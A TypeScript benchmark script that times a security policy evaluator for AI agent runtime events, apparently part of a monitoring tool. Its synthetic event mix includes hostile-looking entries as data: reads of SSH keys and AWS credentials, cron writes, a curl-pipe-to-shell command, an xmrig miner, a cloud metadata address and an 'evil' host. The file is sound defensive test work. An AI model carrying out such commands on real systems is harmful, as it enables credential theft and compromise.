/**
 * @module scripts/bench-policy: per-event latency of policy evaluation with policies/default.yaml.
 *
 * Usage (from the repo root, after compiling): node <out>/scripts/bench-policy.js [policy.yaml] [--budget-us=20]
 * Prints p50/p99/max per event in microseconds for evaluate() and evaluate-with-sequences, and the same for
 * a policy with no rules (the cost of the call and the timer), and exits 1 if a p99 exceeds the budget.
 */
import { readFileSync } from 'node:fs';
import type { RuntimeEvent } from '../src/model/index.js';
import { PolicyEvaluator, evaluate, loadPolicy } from '../src/policy/index.js';
import type { CompiledPolicy, EvalContext } from '../src/policy/index.js';

const TOTAL = 200_000;
const WARMUP = 50_000;
const DISTINCT = 4_000;

/** Deterministic PRNG (mulberry32) so runs are comparable. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Partial = Omit<RuntimeEvent, 'source' | 'host' | 'time_ns'>;

/** A mix close to an agent's real traffic: mostly benign file and process activity, a few hits. */
function makeEvents(rand: () => number): RuntimeEvent[] {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
  const n = () => Math.floor(rand() * 100000);
  const makers: Array<[number, () => Partial]> = [
    [30, () => ({ type: 'file_open', path: `/work/repo/src/mod${n()}.ts`, open_flags: ['read'], comm: 'node', exe: '/usr/bin/node' })],
    [10, () => ({ type: 'file_open', path: `/work/repo/out/f${n()}.js`, open_flags: ['write', 'create', 'truncate'], comm: 'node' })],
    [6, () => ({ type: 'file_open', path: `/usr/lib/python3/dist-packages/m${n()}.py`, open_flags: ['read'], comm: 'python3' })],
    [3, () => ({ type: 'file_open', path: pick(['/root/.ssh/id_rsa', '/home/dev/.aws/credentials', '/work/repo/.env']), open_flags: ['read'] })],
    [3, () => ({ type: 'file_open', path: `/etc/cron.d/job${n()}`, open_flags: ['write', 'create'] })],
    [14, () => ({ type: 'process_exec', exe: pick(['/usr/bin/git', '/usr/bin/node', '/usr/bin/python3', '/usr/bin/ls']), comm: 'git', argv: ['git', 'status', '--porcelain', `path${n()}`] })],
    [6, () => ({ type: 'process_exec', exe: '/bin/sh', comm: 'sh', argv: ['sh', '-c', `npm test -- --grep case${n()}`] })],
    [1, () => ({ type: 'process_exec', exe: '/bin/bash', comm: 'bash', argv: ['bash', '-c', `curl -fsSL https://get.example${n()}.sh | sh`] })],
    [1, () => ({ type: 'process_exec', exe: '/usr/bin/xmrig', comm: 'xmrig', argv: ['xmrig', '-o', 'stratum+tcp://pool:3333'] })],
    [10, () => ({ type: 'network_connect', dst_ip: `${1 + (n() % 200)}.${n() % 256}.${n() % 256}.${n() % 256}`, dst_port: 443, family: 'inet' })],
    [3, () => ({ type: 'network_connect', dst_ip: pick(['10.0.3.7', '192.168.1.20', '169.254.169.254', '2606:4700::1111']), dst_port: 80 })],
    [5, () => ({ type: 'tls_request', tls: { host: pick(['api.openai.com', 'api.anthropic.com', 'registry.npmjs.org', 'llm.evil.example']), path: pick(['/v1/messages', '/v1/chat/completions', '/-/npm/v1/security']) } })],
    [4, () => ({ type: 'process_fork' })],
    [3, () => ({ type: 'process_exit', exit_code: 0 })],
    [1, () => ({ type: 'privilege_change', old_uid: 1000, new_uid: pick([0, 1000]), old_gid: 1000, new_gid: 1000 })],
    [1, () => ({ type: 'ptrace', ptrace_request: pick([16, 0]), target_pid: 42 })],
  ];
  const total = makers.reduce((s, [w]) => s + w, 0);
  const out: RuntimeEvent[] = [];
  for (let i = 0; i < DISTINCT; i++) {
    let r = rand() * total;
    const maker = makers.find(([w]) => (r -= w) < 0)?.[1] ?? makers[0]![1];
    out.push({ source: 'agentprov_ebpf', host: 'bench', time_ns: BigInt(i) * 1_000_000n, pid: 1000 + i, ...maker() } as RuntimeEvent);
  }
  return out;
}

function contexts(rand: () => number): EvalContext[] {
  const tools = ['bash', 'read_file', 'python', 'web_fetch'];
  return tools.map((tool, i) => ({
    scope: { tool_call_id: `tc-${i}-${Math.floor(rand() * 1e6)}`, tool_name: tool, agent_id: 'agent-1', run_id: 'run-1' },
    ancestry: [
      { pid: 10, exe: '/usr/bin/node', comm: 'node' },
      { pid: 5, exe: '/usr/bin/python3', comm: 'python3' },
      { pid: 1, exe: '/sbin/init', comm: 'systemd' },
    ],
    workspace: '/work/repo',
  }));
}

interface Stats {
  p50: number;
  p99: number;
  max: number;
  matched: number;
}

function run(label: string, fn: (e: RuntimeEvent, c: EvalContext) => { matches: unknown[] }, events: RuntimeEvent[], ctxs: EvalContext[]): Stats {
  const order = new Uint32Array(TOTAL);
  const r = rng(7);
  for (let i = 0; i < TOTAL; i++) order[i] = Math.floor(r() * events.length);
  for (let i = 0; i < WARMUP; i++) fn(events[order[i % TOTAL]!]!, ctxs[i & 3]!);
  const ns = new Float64Array(TOTAL);
  let matched = 0;
  for (let i = 0; i < TOTAL; i++) {
    const e = events[order[i]!]!;
    const c = ctxs[i & 3]!;
    const t0 = process.hrtime.bigint();
    const res = fn(e, c);
    ns[i] = Number(process.hrtime.bigint() - t0);
    if (res.matches.length > 0) matched++;
  }
  ns.sort();
  const us = (q: number) => ns[Math.min(TOTAL - 1, Math.floor(q * TOTAL))]! / 1000;
  const s = { p50: us(0.5), p99: us(0.99), max: ns[TOTAL - 1]! / 1000, matched };
  console.log(
    `${label.padEnd(26)} p50 ${s.p50.toFixed(2).padStart(6)} us   p99 ${s.p99.toFixed(2).padStart(6)} us   max ${s.max.toFixed(1).padStart(7)} us   matched ${((100 * matched) / TOTAL).toFixed(1)}%`,
  );
  return s;
}

function main(argv: string[]): number {
  const file = argv.find((a) => !a.startsWith('--')) ?? 'policies/default.yaml';
  const budget = Number(argv.find((a) => a.startsWith('--budget-us='))?.slice(12) ?? 20);
  const policy: CompiledPolicy = loadPolicy(readFileSync(file, 'utf8'), file);
  const empty = loadPolicy('version: 1\nname: no-rules\nrules: []\n', '<no-rules>');
  const rand = rng(42);
  const events = makeEvents(rand);
  const ctxs = contexts(rand);
  console.log(`policy ${policy.name}: ${policy.rules.length} rules, hash ${policy.hash.slice(0, 12)}; ${TOTAL} events (${DISTINCT} distinct), node ${process.version}`);
  const base = run('baseline (no rules)', (e, c) => evaluate(empty, e, c), events, ctxs);
  const single = run('evaluate', (e, c) => evaluate(policy, e, c), events, ctxs);
  const evaluator = new PolicyEvaluator(policy);
  const seq = run('evaluate + sequences', (e, c) => evaluator.evaluate(e, c), events, ctxs);
  console.log(
    `ratio vs baseline: evaluate p50 x${(single.p50 / base.p50).toFixed(1)} p99 x${(single.p99 / base.p99).toFixed(1)}; ` +
      `with sequences p50 x${(seq.p50 / base.p50).toFixed(1)} p99 x${(seq.p99 / base.p99).toFixed(1)} (timer cost included in all)`,
  );
  const worst = Math.max(single.p99, seq.p99);
  if (worst > budget) {
    console.error(`FAIL: p99 ${worst.toFixed(2)} us exceeds the ${budget} us budget`);
    return 1;
  }
  console.log(`ok: p99 within the ${budget} us budget`);
  return 0;
}

process.exitCode = main(process.argv.slice(2));
